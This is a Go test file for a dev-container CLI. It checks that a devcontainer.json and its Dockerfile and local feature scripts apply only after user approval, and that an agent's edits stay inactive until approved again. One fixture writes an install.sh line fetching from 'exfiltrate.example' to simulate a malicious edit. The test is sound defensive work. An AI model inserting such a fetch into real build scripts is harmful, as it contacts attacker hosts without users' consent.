package box_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCLI_DevcontainerTrust: a devcontainer.json is applied only once the
// user approved its content with `hutch project trust`; after an edit (an
// agent can make one) it is not applied until approved again, and every
// command that reads it says so.
func TestCLI_DevcontainerTrust(t *testing.T) {
	t.Parallel()
	f := newFixture(t, nil)
	dc := filepath.Join(f.project, ".devcontainer", "devcontainer.json")
	if err := os.MkdirAll(filepath.Dir(dc), 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(body string) {
		t.Helper()
		if err := os.WriteFile(dc, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(`{
  // JSONC: comments and trailing commas.
  "containerEnv": {"FROM_DC": "yes",},
  "shutdownAction": "none",
}
`)
	const notApplied = "is new or changed since you last approved it, so it is not applied"
	env := func() string {
		t.Helper()
		out, _ := f.mustHutch(t, "exec", "--", "sh", "-c", `echo "[$FROM_DC]"`)
		return out
	}

	// Before trust: not applied, and the first bring-up says why.
	_, errOut := f.mustHutch(t, "up")
	if !strings.Contains(errOut, dc) || !strings.Contains(errOut, notApplied) || !strings.Contains(errOut, "hutch project trust") {
		t.Errorf("up before trust does not say the devcontainer.json is not applied:\n%s", errOut)
	}
	if out := env(); out != "[]\n" {
		t.Errorf("FROM_DC before trust: %q, want it unset", out)
	}
	if out, _ := f.mustHutch(t, "status"); !strings.Contains(out, notApplied) {
		t.Errorf("status before trust lacks the note:\n%s", out)
	}
	if out, _ := f.mustHutch(t, "settings"); !strings.Contains(out, notApplied) {
		t.Errorf("settings before trust lacks the note:\n%s", out)
	}
	if in := f.inspect(t, f.name); in.Container.Config.Labels["devcontainer.config_file"] != "" {
		t.Errorf("the container records a config file it did not apply: %v", in.Container.Config.Labels)
	}

	// Trust, then rebuild: applied.
	out, _ := f.mustHutch(t, "trust")
	if !strings.Contains(out, "Approved "+dc) {
		t.Errorf("trust: %q", out)
	}
	if _, errOut := f.mustHutch(t, "rebuild"); strings.Contains(errOut, notApplied) {
		t.Errorf("rebuild after trust still says it is not applied:\n%s", errOut)
	}
	if out := env(); out != "[yes]\n" {
		t.Errorf("FROM_DC after trust and rebuild: %q, want yes", out)
	}
	if in := f.inspect(t, f.name); in.Container.Config.Labels["devcontainer.config_file"] != dc {
		t.Errorf("config_file label after trust: %v", in.Container.Config.Labels)
	}
	if out, _ := f.mustHutch(t, "status"); strings.Contains(out, notApplied) || strings.Contains(out, "older settings") {
		t.Errorf("status after trust and rebuild:\n%s", out)
	}

	// An edit (as an agent could make) is not applied until trusted again.
	write(`{"containerEnv": {"FROM_DC": "edited", "SNEAKY": "1"}, "shutdownAction": "none"}`)
	if out, _ := f.mustHutch(t, "status"); !strings.Contains(out, notApplied) {
		t.Errorf("status after an edit lacks the note:\n%s", out)
	}
	// The running container keeps what was approved when it was made.
	if out, _ := f.mustHutch(t, "exec", "--", "sh", "-c", `echo "[$FROM_DC][$SNEAKY]"`); out != "[yes][]\n" {
		t.Errorf("env after an untrusted edit, before a rebuild: %q, want the approved value only", out)
	}
	if _, errOut := f.mustHutch(t, "rebuild"); !strings.Contains(errOut, notApplied) {
		t.Errorf("rebuild after an edit does not say it is not applied:\n%s", errOut)
	}
	if out, _ := f.mustHutch(t, "exec", "--", "sh", "-c", `echo "[$FROM_DC][$SNEAKY]"`); out != "[][]\n" {
		t.Errorf("env after an untrusted edit: %q, want neither the old nor the edited values", out)
	}
	f.mustHutch(t, "down")
	if _, errOut := f.mustHutch(t, "up"); !strings.Contains(errOut, notApplied) {
		t.Errorf("up after an edit does not say it is not applied:\n%s", errOut)
	}
	f.mustHutch(t, "trust")
	f.mustHutch(t, "rebuild")
	if out, _ := f.mustHutch(t, "exec", "--", "sh", "-c", `echo "[$FROM_DC][$SNEAKY]"`); out != "[edited][1]\n" {
		t.Errorf("env after trusting the edit: %q", out)
	}
	// The trust store lives in the config dir, never in the project.
	if _, err := os.Stat(filepath.Join(f.config, "trusted-devcontainers.json")); err != nil {
		t.Errorf("trust store: %v", err)
	}
}

// TestCLI_DevcontainerTrustCoversBuildInputs: approving a
// devcontainer.json approves what its images are built from in the
// project too, the Dockerfile its build names and its local features'
// files, which run at build time with a network: after an edit to
// either (an agent can make one), the file is not applied until it is
// approved again, and the note says why. (sandbox-image keeps this test
// from building: trust does not depend on what is built.)
func TestCLI_DevcontainerTrustCoversBuildInputs(t *testing.T) {
	t.Parallel()
	f := newFixture(t, nil)
	f.files(t, map[string]string{
		".devcontainer/devcontainer.json": `{
  "build": {"dockerfile": "Dockerfile"},
  "features": {"./greeter": {}},
  "containerEnv": {"FROM_DC": "yes"},
  "shutdownAction": "none"
}`,
		".devcontainer/Dockerfile":                        "FROM " + f.busybox + "\n",
		".devcontainer/greeter/devcontainer-feature.json": `{"id": "greeter"}`,
		".devcontainer/greeter/install.sh":                "echo hi\n",
	})
	dc := filepath.Join(f.project, ".devcontainer", "devcontainer.json")
	const notApplied = " or the Dockerfile or local features it uses are new or changed since you last approved them, so it is not applied"
	out, _ := f.mustHutch(t, "trust")
	for _, want := range []string{"Approved " + dc, "The approval covers what it builds from the project", "  the Dockerfile " + filepath.Join(f.project, ".devcontainer", "Dockerfile") + "\n", "  the local feature ./greeter\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("trust does not say %q:\n%s", want, out)
		}
	}
	env := func() string {
		t.Helper()
		out, _ := f.mustHutch(t, "exec", "--", "sh", "-c", `echo "[$FROM_DC]"`)
		return out
	}
	f.mustHutch(t, "up")
	if got := env(); got != "[yes]\n" {
		t.Fatalf("FROM_DC once approved: %q", got)
	}
	for _, edit := range []map[string]string{
		{".devcontainer/Dockerfile": "FROM " + f.busybox + "\nRUN echo edited\n"},
		{".devcontainer/greeter/install.sh": "echo hi; wget -q -O- http://exfiltrate.example/ || true\n"},
	} {
		f.files(t, edit)
		if out, _ := f.mustHutch(t, "status"); !strings.Contains(out, dc+notApplied) {
			t.Errorf("status after editing %v lacks the note:\n%s", edit, out)
		}
		if _, errOut := f.mustHutch(t, "rebuild"); !strings.Contains(errOut, dc+notApplied) || !strings.Contains(errOut, "hutch project trust") {
			t.Errorf("rebuild after editing %v does not say the file is not applied:\n%s", edit, errOut)
		}
		if got := env(); got != "[]\n" {
			t.Errorf("FROM_DC after editing %v: %q, want the file not applied", edit, got)
		}
		f.mustHutch(t, "trust")
		f.mustHutch(t, "rebuild")
		if got := env(); got != "[yes]\n" {
			t.Errorf("FROM_DC after approving the edit of %v: %q", edit, got)
		}
	}
}
